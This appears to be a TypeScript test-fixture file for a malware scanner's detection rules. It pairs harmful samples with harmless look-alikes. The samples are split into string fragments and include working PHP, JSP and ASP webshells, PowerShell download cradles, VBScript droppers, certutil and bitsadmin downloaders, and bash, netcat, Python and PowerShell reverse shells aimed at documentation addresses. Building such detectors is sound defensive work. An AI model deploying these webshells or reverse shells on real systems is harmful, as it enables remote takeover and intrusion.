/**
 * Shortest samples of what the built-in rules are for, put together from pieces so that this file is not taken for
 * malware. None of them does harm: the addresses are those reserved for documentation (RFC 2606, RFC 5737).
 */
export interface HarmfulSample {
  readonly rule: string;
  readonly title: string;
  readonly content: string | Uint8Array;
  /** `malicious` when left out. */
  readonly severity?: 'suspicious';
}

const of = (...pieces: string[]) => pieces.join('');
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const base64Command = utf16(
  of('$c = New-Object Net.WebClient; ', 'I', 'EX $c.DownloadString("http://example.com/a")'),
).toString('base64');
const linkHeader = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');

export const HARMFUL: readonly HarmfulSample[] = [
  { rule: 'PHP_WebShell_Runs_Request', title: 'the one-liner', content: of('<?php @ev', 'al($_PO', 'ST["x"]); ?>') },
  { rule: 'PHP_WebShell_Runs_Request', title: 'a command', content: of('<?= sys', 'tem($_GE', "T['cmd']) ?>") },
  {
    rule: 'PHP_WebShell_Runs_Request',
    title: 'a decoded command',
    content: of('<?php shell_', 'exec(base64_', 'decode($_REQ', 'UEST{"c"}));'),
  },
  { rule: 'PHP_WebShell_Runs_Request', title: 'backticks', content: of('<?php echo `{$_GE', "T['c']}`;") },
  {
    rule: 'PHP_WebShell_Runs_Request',
    title: 'a function by name',
    content: of('<?php $_GE', "T['f']($_PO", "ST['a']);"),
  },
  {
    rule: 'PHP_WebShell_Runs_Request',
    title: 'a request header',
    content: of('<?php pass', 'thru($_SER', "VER['HTTP_X_CMD']);"),
  },
  {
    rule: 'PHP_WebShell_Runs_Body',
    severity: 'suspicious',
    title: 'the body',
    content: of('<?php ev', 'al(file_get_', "contents('php://", "input'));"),
  },
  {
    rule: 'PHP_WebShell_Packed',
    severity: 'suspicious',
    title: 'packed twice',
    content: of('<?php ev', 'al(gzin', 'flate(base64_', "decode('abc')));"),
  },
  {
    rule: 'PHP_WebShell_Packed',
    severity: 'suspicious',
    title: 'a long text',
    content: of('<?php ev', 'al(base64_', `decode("${'QUJD'.repeat(40)}"));`),
  },
  {
    rule: 'JSP_WebShell_Runs_Request',
    title: 'one line',
    content: of('<% Runtime.getRun', 'time().ex', 'ec(request.getPara', 'meter("x")); %>'),
  },
  {
    rule: 'JSP_WebShell_Runs_Request',
    title: 'several lines',
    content: of(
      '<%@page%>\n<% String cmd = request.getPara',
      'meter("cmd");\nProcess p = Runtime.getRun',
      'time().ex',
      'ec(cmd); %>',
    ),
  },
  {
    rule: 'JSP_WebShell_Loads_Class',
    title: 'an encrypted class',
    content: of(
      '<%! class U extends Class',
      'Loader { Class g(byte[] b) { return super.define',
      'Class(b, 0, b.length); } } %>',
      '<% Cipher c = Cipher.getInst',
      'ance("AES"); new U().g(c.doFinal(request.get',
      'Reader().readLine())).new',
      'Instance(); %>',
    ),
  },
  { rule: 'ASP_WebShell_Runs_Request', title: 'classic ASP', content: of('<%ev', 'al req', 'uest("x")%>') },
  {
    rule: 'ASP_WebShell_Runs_Request',
    title: 'JScript',
    content: of('<%@ Page Language="Jscript"%><%ev', 'al(Requ', 'est.Item["x"],"uns', 'afe");%>'),
  },
  {
    rule: 'PowerShell_Encoded_Command',
    title: 'in a batch file',
    content: of('powers', `hell.exe -NoP -NonI -W Hidden -en`, `c ${base64Command}`),
  },
  {
    rule: 'PowerShell_Encoded_Command',
    title: 'in UTF-16',
    content: utf16(of('powers', `hell -Encoded`, `Command ${base64Command}`)),
  },
  {
    rule: 'PowerShell_Hidden_Download',
    title: 'a cradle',
    content: of(
      'powers',
      'hell -w hid',
      'den -nop -c "I',
      'EX (New-Object Net.WebClient).Download',
      "String('http://example.com/a.ps1')\"",
    ),
  },
  {
    rule: 'Script_Dropper_WScript',
    title: 'VBScript',
    content: of(
      'Set h = CreateObj',
      'ect("MSXML2.XML',
      'HTTP")\nSet s = CreateObj',
      'ect("ADODB.Str',
      'eam")\n',
      's.SaveTo',
      'File "a.exe", 2\nCreateObj',
      'ect("WScript.Sh',
      'ell").Run "a.exe"',
    ),
  },
  {
    rule: 'Script_Dropper_WScript',
    title: 'JScript',
    content: of(
      'var h = new ActiveXObj',
      "ect('WinHttp.WinHttpReq",
      "uest.5.1'), s = new ActiveXObj",
      "ect('ADODB.Str",
      "eam');\n",
      's.SaveTo',
      'File(p, 2); new ActiveXObj',
      "ect('Shell.Appl",
      "ication').ShellEx",
      'ecute(p);',
    ),
  },
  {
    rule: 'Script_Dropper_Through_Shell',
    title: 'by mshta',
    content: of(
      'Set w = CreateObj',
      'ect("WScript.Sh',
      'ell")\nw.R',
      'un "cmd /c msh',
      'ta http://example.com/a.hta", 0',
    ),
  },
  {
    rule: 'Script_Hides_Its_Objects',
    severity: 'suspicious',
    title: 'backwards',
    content: of('CreateObject(StrReverse("lle', 'hS.tpir', 'cSW"))'),
  },
  {
    rule: 'Script_Hides_Its_Objects',
    severity: 'suspicious',
    title: 'in pieces',
    content: of('CreateObject("ADOD', '" & "B.St', 'ream")'),
  },
  {
    rule: 'HTA_Starts_Programs',
    title: 'with PowerShell',
    content: of(
      '<html><hta:appli',
      'cation id=a><script language=VBScript>CreateObj',
      'ect("WScript.Sh',
      'ell").R',
      'un "powers',
      'hell -c iwr http://example.com/a.exe"</script></html>',
    ),
  },
  {
    rule: 'Batch_Downloader',
    title: 'with certutil',
    content: of(
      '@echo off\r\ncert',
      'util -url',
      'cache -split -f http://example.com/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
    ),
  },
  {
    rule: 'Batch_Downloader',
    title: 'with bitsadmin',
    content: of(
      '@echo off\r\nbits',
      'admin /tran',
      'sfer j http://example.com/a.exe %APPDATA%\\a.exe\r\n"%APPDATA%\\a.exe"\r\n',
    ),
  },
  {
    rule: 'Reverse_Shell_Script',
    title: 'bash',
    content: of('#!/bin/bash\nba', 'sh -i >& /dev/t', 'cp/192.0.2.1/4444 0>&1\n'),
  },
  { rule: 'Reverse_Shell_Script', title: 'netcat', content: of('n', 'c -e /bin/s', 'h 192.0.2.1 4444\n') },
  {
    rule: 'Reverse_Shell_Script',
    title: 'netcat, the program last',
    content: of('n', 'c 192.0.2.1 4444 -e /bin/b', 'ash\n'),
  },
  {
    rule: 'Reverse_Shell_Script',
    title: 'a pipe',
    content: of('rm /tmp/f;mkf', 'ifo /tmp/f;cat /tmp/f|/bin/s', 'h -i 2>&1|n', 'c 192.0.2.1 4444 >/tmp/f'),
  },
  {
    rule: 'Reverse_Shell_Script',
    title: 'socat',
    content: of('so', "cat exec:'ba", "sh -li',pty,stderr tc", 'p:192.0.2.1:4444'),
  },
  {
    rule: 'Reverse_Shell_Python',
    title: 'Python',
    content: of(
      'import socket,subprocess,os\ns=socket.socket()\ns.con',
      'nect(("192.0.2.1",4444))\nos.du',
      'p2(s.fileno(),0)\n',
      'os.du',
      'p2(s.fileno(),1)\nsubprocess.ca',
      'll(["/bin/s',
      'h","-i"])\n',
    ),
  },
  {
    rule: 'Reverse_Shell_PowerShell',
    title: 'PowerShell',
    content: of(
      '$c = New-Object System.Net.Sockets.TCP',
      "Client('192.0.2.1',4444);$s = $c.GetStr",
      'eam();',
      'while(($i = $s.Re',
      'ad($b,0,$b.Length)) -ne 0){$o = (i',
      'ex $d 2>&1);$s.Wr',
      'ite($o,0,$o.Length)}',
    ),
  },
  {
    rule: 'Shortcut_Fetches_Program',
    title: 'mshta',
    content: Buffer.concat([
      linkHeader,
      Buffer.alloc(60),
      utf16(of('C:\\Windows\\System32\\msh', 'ta.exe http://example.com/a.hta')),
    ]),
  },
];

export const HARMLESS: readonly { readonly title: string; readonly content: string }[] = [
  {
    title: 'PHP that reads a request',
    content: "<?php $name = $_POST['name']; echo htmlspecialchars($name); exec('ls'); ?>",
  },
  { title: 'JSP that reads a parameter', content: '<% String name = request.getParameter("name"); %><%= name %>' },
  { title: 'a batch file that starts a program', content: '@echo off\r\nstart notepad.exe\r\ncall build.bat\r\n' },
  {
    title: 'a batch file that checks a certificate',
    content: '@echo off\r\ncertutil -hashfile a.exe SHA256\r\nstart a.exe\r\n',
  },
  {
    title: "an administrator's PowerShell call",
    content: 'powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1',
  },
  {
    title: 'the usual way to install a package manager',
    content: "iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))",
  },
  { title: 'VBScript that starts a program', content: 'CreateObject("WScript.Shell").Run "notepad.exe"' },
  {
    title: 'an old web page with XMLHTTP',
    content: 'var x = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject("Microsoft.XMLHTTP");',
  },
  {
    title: 'a port check by netcat',
    content: '#!/bin/sh\nnc -z -w 2 localhost 80 && echo up\nexec 3<>/dev/tcp/localhost/80\n',
  },
  {
    title: 'a Python daemon',
    content:
      'os.dup2(null.fileno(), 0)\nos.dup2(null.fileno(), 1)\nsocket.connect((host, port))\nsubprocess.run(["ls"])',
  },
];
